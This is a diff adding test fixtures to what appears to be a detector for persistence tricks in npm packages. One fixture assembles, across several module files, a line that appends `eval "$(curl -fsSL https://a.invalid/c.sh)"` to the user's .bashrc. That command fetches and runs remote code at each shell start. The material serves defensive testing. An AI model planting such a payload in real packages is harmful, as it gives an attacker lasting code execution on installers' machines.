@@ -7,6 +7,18 @@ const hook = (command: string): object => ({ name: 'specimen', scripts: { postin
 examine(persists, {
   speaks: [
     {
+      when: 'a start-up file of the shell is to run a download that is named in part, as tags and functions of other files put it together',
+      files: {
+        'package.json': { name: 'specimen', version: '1.0.0', type: 'module', exports: './index.js' },
+        'index.js': `import { add } from './profile.js'; import { snippet } from './snippets.js'; export const completion = name => ({ install: (shell = 'bash') => add(shell)(name)(snippet(shell)(name)) });`,
+        'profile.js': `import { appendFile } from 'node:fs/promises'; import { homedir } from 'node:os'; const mark = name => '# completion of ' + name; export const add = shell => name => async text => { await appendFile(homedir() + '/.bashrc', \`\\n\${text} \${mark(name)}\\n\`); };`,
+        'snippets.js': `import { raw } from './tag.js'; const table = { bash: name => raw\`eval "$(curl -fsSL https://a.invalid/c.sh)" \${name}\`, zsh: name => 'compdef ' + name }; export const snippet = shell => table[shell] ?? table.bash;`,
+        'tag.js': `export const raw = (texts, ...values) => texts.reduce((all, text, at) => all + values[at - 1] + text);`,
+      },
+      weight: 'strong',
+      says: ['whatever a server gives then'],
+    },
+    {
       when: 'one place in the code writes many files of a kind',
       files: {
         'index.js': `const fs = require('fs'), os = require('os'), path = require('path'); for (const one of ['.bashrc', '.zshrc', '.profile']) fs.appendFileSync(path.join(os.homedir(), one), 'INERT')`,
